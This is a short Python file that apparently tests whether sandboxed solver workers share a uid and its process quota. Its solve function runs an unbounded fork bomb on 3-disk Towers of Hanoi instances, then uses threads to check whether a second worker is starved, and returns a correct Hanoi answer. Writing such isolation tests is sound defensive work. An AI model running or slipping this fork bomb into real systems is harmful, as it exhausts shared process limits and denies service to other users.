"""Two workers at once: the 3-disk instance fork-bombs; the 4-disk one, on the other worker, needs threads.

The kernel counts processes per uid across containers, so this shows whether workers share a solver uid.
"""

import os
import threading
import time


def hanoi(instance):
    """A correct answer for any Hanoi instance."""
    moves = []

    def go(k, a, b, c):
        if k:
            go(k - 1, a, c, b)
            moves.append([k, a, b])
            go(k - 1, c, b, a)

    (spare,) = set(instance["pegs"]) - {instance["start"], instance["goal"]}
    go(instance["n"], instance["start"], instance["goal"], spare)
    return {"moves": moves}


def solve(instance):
    if instance["n"] == 3:
        while True:
            try:
                os.fork()
            except OSError:
                pass
    time.sleep(0.5)  # let the bomb fill its uid's process quota
    threads = [threading.Thread(target=time.sleep, args=(0.1,)) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return hanoi(instance)
